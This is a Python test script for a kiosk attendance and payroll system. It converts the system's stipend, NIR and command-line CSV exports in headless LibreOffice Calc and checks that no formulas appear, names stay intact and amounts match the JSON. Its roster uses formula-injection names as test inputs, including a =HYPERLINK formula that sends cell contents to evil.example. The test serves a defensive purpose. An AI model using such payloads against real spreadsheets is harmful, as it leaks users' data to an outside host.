#!/usr/bin/env python3
"""stipend.csv as payroll opens it: LibreOffice Calc headless (Debian's
libreoffice-calc-nogui) imports the CSV with Norwegian settings and saves it as
xlsx; read back, names that start with = + - @ stay text (no formula anywhere),
ø and Arabic names survive, the money cells are numbers equal to stipend.json,
and the booleans are the header language's words.  The same checks run on the
NIR summary and on `stempelctl period show --csv`."""
import calendar
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
import urllib.request
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from kiosklib import Kiosk, ok, done  # noqa: E402

NOW = calendar.timegm((2026, 12, 3, 11, 0, 0))
os.environ["STEMPEL_CLOCK_OFFSET_S"] = str(NOW - int(time.time()))
os.environ["STEMPEL_CLOCK_EPOCH"] = str(NOW - 365 * 86400)

NAMES = {"P-1": '=HYPERLINK("http://evil.example/?"&A1,"klikk")', "P-2": "+47 22 00 00 00",
         "P-3": "@SUM(1+1)", "P-4": "-2+3", "P-5": "Ørjan Søreide Ås", "P-6": "فاطمة الحسن",
         "P-7": "Kari \"K\"; Nordmann"}


def person(pid, i):
    return {"id": pid, "name": NAMES[pid], "language": "nb", "programme_start": "2026-01-05",
            "cards": ["04A4%04X" % i],
            "schedule": {"template": [{"weekdays": [1, 2, 3, 4, 5], "start": "08:00",
                                       "end": "15:30"}]}}


ROSTER = {"participants": [person(p, i) for i, p in enumerate(NAMES)]}
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def xlsx_cells(path):
    """{(row, col): (kind, value)} of the first sheet; kind: s text, n number, f formula."""
    with zipfile.ZipFile(path) as z:
        shared = []
        if "xl/sharedStrings.xml" in z.namelist():
            for si in ElementTree.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", NS):
                shared.append("".join(t.text or "" for t in si.iter(
                    "{%s}t" % NS["m"])))
        sheet = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for c in sheet.iter("{%s}c" % NS["m"]):
        m = re.match(r"([A-Z]+)(\d+)", c.get("r"))
        col = 0
        for ch in m.group(1):
            col = col * 26 + ord(ch) - 64
        v = c.find("m:v", NS)
        if c.find("m:f", NS) is not None:
            cells[(int(m.group(2)), col)] = ("f", v.text if v is not None else "")
        elif c.get("t") == "s":
            cells[(int(m.group(2)), col)] = ("s", shared[int(v.text)])
        elif c.get("t") in ("str", "inlineStr"):
            t = c.find(".//m:t", NS)
            cells[(int(m.group(2)), col)] = ("s", (v if v is not None else t).text or "")
        elif v is not None:
            cells[(int(m.group(2)), col)] = ("n", v.text)
    return cells


def calc(csv_bytes, work, name):
    src = os.path.join(work, name + ".csv")
    with open(src, "wb") as f:
        f.write(csv_bytes)
    # separator ';' (59), quote '"' (34), UTF-8 (76), from line 1, Norwegian Bokmål
    # (1044, so "1234,50" is a number), quoted fields not forced to text, special numbers on.
    r = subprocess.run(["soffice", "--headless", "--norestore",
                        "-env:UserInstallation=file://" + os.path.join(work, "lo"),
                        "--convert-to", "xlsx", "--infilter=CSV:59,34,76,1,,1044,false,true",
                        "--outdir", work, src], capture_output=True, text=True, timeout=180)
    out = os.path.join(work, name + ".xlsx")
    if not os.path.exists(out):
        raise RuntimeError("soffice: " + r.stdout + r.stderr)
    return xlsx_cells(out)


def column(cells, header):
    for (row, col), (_, v) in cells.items():
        if row == 1 and v == header:
            return col
    raise KeyError(header)


if shutil.which("soffice") is None:
    print("not ok - soffice missing (make deps installs libreoffice-calc-nogui)")
    sys.exit(1)
work = tempfile.mkdtemp(prefix="stempel-calc-")
k = Kiosk(roster_doc=ROSTER)
try:
    token = k.ctl("token", "create", "--scope", "payroll", "--name", "lonn").stdout.strip()
    k.ctl("attendance", "results-from", "2026-12-01")
    k.ctl("g", "add", "2026-05-01", "130160")
    k.ctl("correction", "add", "P-5", "2026-12-01", "08:00", "in", "--reason", "paper list")
    k.ctl("correction", "add", "P-5", "2026-12-01", "11:00", "out", "--reason", "paper list")
    k.start()
    pid = json.loads(urllib.request.urlopen(urllib.request.Request(
        "http://127.0.0.1:%d/api/v1/periods" % k.port,
        headers={"Authorization": "Bearer " + token}), timeout=60).read())["periods"][0]["id"]

    def api(path):
        req = urllib.request.Request("http://127.0.0.1:%d/api/v1/periods/%d/%s" % (
            k.port, pid, path), headers={"Authorization": "Bearer " + token})
        with urllib.request.urlopen(req, timeout=120) as r:
            return r.read()

    doc = json.loads(api("stipend.json"))
    raw = api("stipend.csv")
    ok(raw.startswith(b"\xef\xbb\xbf"), "stipend.csv starts with a UTF-8 byte-order mark")
    cells = calc(raw, work, "stipend")
    ok(not any(kind == "f" for kind, _ in cells.values()),
       "Calc finds no formula anywhere in stipend.csv",
       [v for v in cells.items() if v[1][0] == "f"])
    name_col, id_col = column(cells, "Navn"), column(cells, "Deltaker-ID")
    rows = {cells[(r, id_col)][1]: r for (r, c) in cells if c == id_col and r > 1}
    names_ok = all(cells[(rows[p], name_col)][0] == "s" and
                   cells[(rows[p], name_col)][1].lstrip("'") == n for p, n in NAMES.items())
    ok(names_ok and len(rows) == len(NAMES),
       "every name is text in Calc, as written (=, +, @, -, ø, Arabic, quotes)",
       {p: cells.get((rows.get(p, 0), name_col)) for p in NAMES})
    money = {"Brutto (kr)": "gross", "Trekk (kr)": "deduction", "Netto (kr)": "net",
             "Timesats (kr)": "hour_value", "Planlagt (timer)": "scheduled_hours",
             "Ugyldig fravær (timer)": "unexcused_hours"}
    bad = []
    for head, key in money.items():
        col = column(cells, head)
        for l in doc["lines"]:
            kind, v = cells[(rows[l["participant"]], col)]
            if kind != "n" or Decimal(v).quantize(Decimal("0.01")) != Decimal(l[key]):
                bad.append((l["participant"], head, kind, v, l[key]))
    ok(not bad, "money and hours are numbers in Calc equal to stipend.json", bad)
    p5 = [l for l in doc["lines"] if l["participant"] == "P-5"][0]
    ok(p5["deduction"] != "0.00", "one participant with a deduction to compare", p5)
    col = column(cells, "Enkeltvedtak kreves")
    ok(all(cells[(r, col)][1] in ("ja", "nei") for r in rows.values()),
       "booleans in the header language (ja/nei)")

    nir = calc(api("nir.csv"), work, "nir")
    ok(not any(kind == "f" for kind, _ in nir.values()) and
       nir[(1, column(nir, "Ugyldig fravær (timer)"))][1] == "Ugyldig fravær (timer)",
       "nir.csv opens in Calc with Norwegian headers and no formula")

    r = k.ctl("period", "show", str(pid), "--csv")
    cli = calc(r.stdout.encode(), work, "cli")
    ok(not any(kind == "f" for kind, _ in cli.values()) and
       sorted(v for (row, c), (_, v) in cli.items() if c == column(cli, "Navn") and row > 1) ==
       sorted(cells[(row, name_col)][1] for row in rows.values()),
       "stempelctl period show --csv gives Calc the same neutralised names")
finally:
    k.cleanup()
    shutil.rmtree(work, ignore_errors=True)
done()
